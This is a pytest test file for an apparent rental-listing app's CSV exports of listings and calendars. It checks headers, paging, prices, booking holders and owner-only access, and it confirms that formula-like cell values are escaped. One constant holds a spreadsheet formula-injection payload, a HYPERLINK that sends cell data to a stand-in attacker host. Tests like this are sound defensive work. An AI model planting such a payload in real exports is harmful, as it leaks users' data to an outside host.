"""A host's listings and calendars as CSV files over HTTP."""

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import pytest

from airbnb.domain.csv_cells import read_text
from airbnb.domain.paging import MAX_LIMIT
from airbnb.domain.statuses import NightKind
from airbnb.models.calendar import BookedNight
from airbnb.models.calendar_feeds import CalendarFeed
from airbnb.unit_of_work import in_transaction

NOW = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)
MINE = "/users/me/listings.csv"
HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"free ; night")'


@pytest.fixture(autouse=True)
def on_the_first_of_may(freeze):
    freeze(NOW)


def table(answer: Any) -> list[dict[str, str]]:
    """A file's rows by column, texts as they were."""
    assert answer.status_code == 200, answer.text
    text = answer.data.decode("utf-8-sig")
    return [
        {name: read_text(cell) for name, cell in row.items()} for row in csv.DictReader(io.StringIO(text, newline=""))
    ]


def test_case_52_listings_come_as_they_are_and_nobody_elses(host, make_listing, make_user):
    listing = make_listing(
        host=host.user, title=HOSTILE, house_rules="+ no shoes\n'quiet', \"please\" 🏡", bathroom_halves=3
    )
    make_listing(host=make_user())

    answer = host.get(MINE)
    (row,) = table(answer)

    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="listings.csv"'
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert (row["id"], row["title"], row["house_rules"]) == (str(listing.id), listing.title, listing.house_rules)
    assert (row["bathrooms"], row["currency"], row["status"]) == ("1.5", "EUR", "published")
    assert (row["nightly_price"], row["weekend_price"], row["instant_book"]) == ("100.00", "", "true")
    assert f"\"'{HOSTILE[:10]}" in answer.text
    assert answer.data.startswith(b'\xef\xbb\xbf"id","status"')


def test_more_listings_than_a_page_take_more_statements_only_by_pages(host, make_listing, count_statements):
    made = [make_listing(host=host.user) for _ in range(3)]
    host.get(MINE)
    count_statements.clear()
    host.get(MINE)
    for_three = len(count_statements)
    made += [make_listing(host=host.user) for _ in range(MAX_LIMIT)]
    count_statements.clear()

    rows = table(host.get(MINE))

    assert [row["id"] for row in rows] == [str(listing.id) for listing in reversed(made)]
    assert for_three <= 6
    assert len(count_statements) <= for_three + 4


def test_a_host_without_listings_gets_the_header_alone(host):
    assert table(host.get(MINE)) == []
    assert host.get(MINE).text.count("\n") == 1


def test_each_night_tells_its_price_and_who_holds_it(host, guest, make_listing, make_booking, count_rows):
    listing = make_listing(host=host.user, preparation_days=1)
    booking = make_booking(listing=listing, guest=guest.user, check_in=date(2026, 5, 10), nights=2)
    ranges = [
        {"from": "2026-05-14", "to": "2026-05-15", "available": False, "note": "-paint"},
        {"from": "2026-05-15", "to": "2026-05-16", "price": {"amount": "77.50", "currency": "EUR"}},
    ]
    assert host.put(f"/listings/{listing.id}/calendar", json={"ranges": ranges}).status_code == 200

    answer = host.get(f"/listings/{listing.id}/calendar.csv?from=2026-05-10&to=2026-05-17")
    rows = table(answer)

    assert [row["night"] for row in rows] == [f"2026-05-{day}" for day in range(10, 17)]
    assert [row["taken_by"] for row in rows] == ["booking", "booking", "preparation", "", "block", "", ""]
    first = rows[0]
    assert (first["booking_code"], first["guest_name"]) == (booking.code, guest.user.first_name)
    assert (rows[4]["note"], rows[4]["available"]) == ("-paint", "false")
    assert '"\'-paint"' in answer.text
    assert [row["price"] for row in rows[4:6]] == ["100.00", "77.50"]
    shown = host.get(f"/listings/{listing.id}/calendar?from=2026-05-10&to=2026-05-17").json["data"]
    assert [row["available"] == "true" for row in rows] == [night["available"] for night in shown]
    assert [row["price"] for row in rows] == [night["price"]["amount"] for night in shown]


def test_three_years_are_read_in_a_few_statements(host, make_listing, count_statements):
    listing = make_listing(host=host.user)
    url = f"/listings/{listing.id}/calendar.csv"
    assert len(table(host.get(url))) == 365
    count_statements.clear()

    rows = table(host.get(f"{url}?from=2025-01-01&to=2028-01-01"))

    assert (len(rows), rows[0]["night"], rows[-1]["night"]) == (1_095, "2025-01-01", "2027-12-31")
    assert len(count_statements) <= 2 + 3 * 4


def hold_for_feed(listing_id: int, feed_id: int, night: date) -> None:
    row = {"listing_id": listing_id, "night": night, "kind": NightKind.FEED, "feed_id": feed_id}
    in_transaction(lambda session: session.add(BookedNight(**row)))


def test_a_night_names_the_calendar_that_holds_it(host, make_listing, count_rows):
    listing = make_listing(host=host.user)
    feed = host.post(f"/listings/{listing.id}/calendar-feeds", json={"name": "@Other", "url": "https://x.example/a"})
    hold_for_feed(listing.id, int(feed.json["id"]), date(2026, 5, 3))

    rows = table(host.get(f"/listings/{listing.id}/calendar.csv"))

    assert [(row["night"], row["calendar_name"]) for row in rows if row["taken_by"]] == [("2026-05-03", "@Other")]
    assert count_rows(CalendarFeed) == 1


@pytest.mark.parametrize(
    "query",
    ["from=2026-05-10&to=2026-05-10", "to=2026-05-10", "from=2026-01-01&to=2029-12-01", "from=x", "page=1"],
)
def test_a_span_that_makes_no_sense_is_refused(host, make_listing, query):
    listing = make_listing(host=host.user)
    assert host.get(f"/listings/{listing.id}/calendar.csv?{query}").status_code == 422


def test_only_the_owner_gets_the_file(host, guest, client, make_listing, make_client, make_user):
    listing = make_listing(host=make_user())
    url = f"/listings/{listing.id}/calendar.csv"
    assert [who.get(url).status_code for who in (host, guest)] == [403, 403]
    assert client.get(f"/api/v1{url}").status_code == 401
    assert guest.get(MINE).status_code == 403
